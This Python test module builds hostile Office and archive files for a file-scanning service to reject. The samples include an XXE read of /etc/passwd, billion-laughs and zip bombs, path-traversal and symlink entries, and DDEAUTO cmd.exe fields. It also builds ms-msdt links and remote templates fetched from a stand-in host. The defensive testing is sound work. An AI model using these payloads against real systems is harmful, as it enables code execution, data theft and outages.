"""Packed files sent to do harm: Word, Excel and what pretends to be them."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from hafan.files.sieve.suspecting import EICAR
from tests.rooms.files.making import docx, sheet

Sent = tuple[str, str, bytes]


def office() -> Iterator[Sent]:
    more: dict[str, dict[str, bytes]] = {
        "macros": {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"},
        "macros under another name": {"word/vbaData.xml": b"<a/>"},
        "ActiveX": {"word/activeX/activeX1.xml": b"<a/>"},
        "an OLE object": {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
        "a document inside": {"word/embeddings/inner.docx": docx(["inner"])},
        "a workbook inside": {"word/embeddings/book.xlsx": sheet([["hidden", 1]])},
        "a zip inside": {"word/media/image1.zip": zipped({"a": b"a"})},
        "a program inside": {"word/media/image1.exe": b"MZ\x90\x00"},
        "a page inside": {"word/afchunk.html": b"<script>alert(1)</script>"},
        "a vector picture inside": {"word/media/image1.svg": b"<svg onload='alert(1)'/>"},
        "its own menu": {"customUI/customUI.xml": b"<customUI onLoad='x'/>"},
        "EICAR in a part": {"word/notes.xml": b"<a>" + EICAR.replace(b"&", b"&amp;") + b"</a>"},
        "entities": {"word/styles.xml": b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'},
        "a thousand million laughs": {"word/styles.xml": laughs()},
        "a file fetched by an entity": {"word/styles.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'},
        "broken XML": {"word/styles.xml": b"<a><b></a>"},
        "XML too deep": {"word/styles.xml": b"<a>" * 5000 + b"</a>" * 5000},
        "a broken picture": {"word/media/image1.png": b"\x89PNG\r\n\x1a\n" + bytes(40)},
        "a picture that is a page": {"word/media/image1.jpg": b"<html></html>"},
        "a flood of dots": {"word/media/image1.png": flood(60_000, 60_000)},
        "a template fetched": {"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://elsewhere.example/t.dotm")},
        "a picture fetched": {"word/_rels/document.xml.rels": relation("image", "http://elsewhere.example/spy.png")},
        "a frame fetched": {"word/_rels/webSettings.xml.rels": relation("frame", "\\\\elsewhere.example\\share")},
        "an object fetched": {"word/_rels/document.xml.rels": relation("oleObject", "mhtml:http://elsewhere.example/x.html!x-usc:")},
        "a link to a program": {"word/_rels/document.xml.rels": relation("hyperlink", "ms-msdt:/id PCWDiagnostic")},
        "a link that runs": {"word/_rels/document.xml.rels": relation("hyperlink", "javascript:alert(1)")},
        "a link to a local file": {"word/_rels/document.xml.rels": relation("hyperlink", "file:///c:/windows/system32/cmd.exe")},
        "a field that runs": {"word/header1.xml": b"<w:a xmlns:w='w'><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:a>"},
    }  # fmt: skip
    for what, parts in more.items():
        yield f"Word with {what}", "letter.docx", docx(["words"], more=parts)
    for what, part in {
        "macros": "xl/vbaProject.bin", "old macros": "xl/macrosheets/sheet1.xml", "dialogues": "xl/dialogsheets/sheet1.xml",
        "another book linked": "xl/externalLinks/externalLink1.xml", "a data model": "xl/model/item.data", "controls": "xl/ctrlProps/ctrlProp1.xml",
        "an object": "xl/embeddings/oleObject1.bin", "active parts": "xl/activeX/activeX1.bin",
    }.items():  # fmt: skip
        yield f"Excel with {what}", "table.xlsx", with_parts(sheet([[1]]), {part: b"<a/>"})
    yield (
        "Excel that asks another program",
        "table.xlsx",
        with_parts(sheet([[1]]), {"xl/worksheets/x.xml": b"<x><ddeLink service='cmd'/></x>"}),
    )
    yield (
        "Word with macros, renamed",
        "letter.docx",
        docx(["a"], content_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
    )
    yield "Word sent as Excel", "table.xlsx", docx(["a"])
    yield "Excel sent as Word", "letter.docx", sheet([[1]])
    yield (
        "a locked Word file",
        "letter.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16le") + bytes(2000),
    )
    yield "Word with a locked part", "letter.docx", locked(docx(["words"]))


def archives() -> Iterator[Sent]:
    yield (
        "a bomb of zeros",
        "letter.docx",
        with_parts(docx(["a"]), {"word/big.xml": b"<a>" + b" " * 60_000_000 + b"</a>"}),
    )
    yield (
        "a bomb of many parts",
        "letter.docx",
        with_parts(docx(["a"]), {f"word/p{n}.xml": b"<a/>" for n in range(2_500)}),
    )
    yield (
        "bombs that add up",
        "letter.docx",
        with_parts(docx(["a"]), {f"word/p{n}.xml": b"<a>" + noisy(13) + b"</a>" for n in range(12)}),
    )
    yield "parts that lie over each other", "letter.docx", overlapping()
    for where in (
        "../../etc/cron.d/x.xml",
        "/etc/passwd.xml",
        "word/../../x.xml",
        "C:/x.xml",
        "word\\..\\x.xml",
    ):
        yield f"a part that climbs out: {where}", "letter.docx", with_parts(docx(["a"]), {where: b"<a/>"})
    yield "one name twice", "letter.docx", twice()
    yield "a part that is a link", "letter.docx", symlink(docx(["a"]))
    yield "a zip with something before it", "letter.docx", b"PK\x03\x04" + bytes(200) + docx(["a"])
    yield "a zip with something after it", "letter.docx", docx(["a"]) + b"<script>alert(1)</script>"
    yield "a zip with a remark", "letter.docx", remarked(docx(["a"]), b"<script>alert(1)</script>")
    yield "a zip that lies about sizes", "letter.docx", lying(docx(["a" * 5000]))
    tape = io.BytesIO()
    with tarfile.open(fileobj=tape, mode="w"):
        pass
    yield "a tape sent as text", "a.txt", tape.getvalue()
    for ending in ("docx", "xlsx"):
        yield f"zips in zips sent as {ending}", f"a.{ending}", nested(6)


def zipped(parts: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as written:
        for name, data in parts.items():
            written.writestr(name, data)
    return made.getvalue()


def with_parts(data: bytes, parts: dict[str, bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as read:
        held = {name: read.read(name) for name in read.namelist()}
    return zipped({**held, **parts})


def nested(depth: int) -> bytes:
    inner = zipped({"zeros.bin": bytes(1_000_000)})
    for _ in range(depth):
        inner = zipped({f"{n}.zip": inner for n in range(8)})
    return inner


def noisy(megabytes: int) -> bytes:
    return b"".join(b"<b>%d</b>" % n for n in range(megabytes * 1_000_000 // 14))


def twice() -> bytes:
    return with_parts(docx(["a"]), {"Word/Document.xml": b"<a/>"})


def symlink(data: bytes) -> bytes:
    made = io.BytesIO(data)
    with zipfile.ZipFile(made, "a") as written:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        written.writestr(link, "/etc/passwd")
    return made.getvalue()


def remarked(data: bytes, words: bytes) -> bytes:
    made = io.BytesIO(data)
    with zipfile.ZipFile(made, "a") as written:
        written.comment = words
    return made.getvalue()


def locked(data: bytes) -> bytes:
    """The flag that says a part is locked, set in the table of contents."""
    changed, at = bytearray(data), 0
    while (at := changed.find(b"PK\x01\x02", at)) >= 0:
        changed[at + 8] |= 1
        at += 4
    return bytes(changed)


def lying(data: bytes) -> bytes:
    """A part that says it unpacks to ten bytes."""
    changed, at = bytearray(data), data.find(b"PK\x01\x02")
    changed[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(changed)


def overlapping() -> bytes:
    """Many entries in the table of contents for one packed part."""
    data = docx(["a"], more={"word/big.xml": b"<a>" + b" " * 3_000_000 + b"</a>"})
    end = data.rfind(b"PK\x05\x06")
    start = struct.unpack("<I", data[end + 16 : end + 20])[0]
    table, at, lines = data[start:end], 0, []
    while at < len(table):
        n, m, k = struct.unpack("<HHH", table[at + 28 : at + 34])
        lines.append(table[at : at + 46 + n + m + k])
        at += 46 + n + m + k
    big = next(line for line in lines if b"word/big.xml" in line)
    lines += [big.replace(b"word/big.xml", b"word/%04d.xml" % number) for number in range(300)]
    new = b"".join(lines)
    tail = bytearray(data[end:])
    tail[8:12] = struct.pack("<HH", len(lines), len(lines))
    tail[12:16] = struct.pack("<I", len(new))
    return data[:start] + new + bytes(tail)


def laughs() -> bytes:
    lines = [b'<!ENTITY l0 "lol">'] + [
        b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10)
    ]
    return b"<!DOCTYPE a [" + b"".join(lines) + b"]><a>&l9;</a>"


def relation(kind: str, target: str) -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId99" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def flood(width: int, height: int, beside: tuple[int, int] | None = None) -> bytes:
    """A PNG of a few bytes that says it is enormous; `beside` writes a small header first."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    first = chunk(b"IHDR", struct.pack(">IIBBBBB", *beside, 8, 2, 0, 0, 0)) if beside else b""
    return (
        b"\x89PNG\r\n\x1a\n"
        + first
        + head
        + chunk(b"IDAT", zlib.compress(bytes(1_000_000)))
        + chunk(b"IEND", b"")
    )
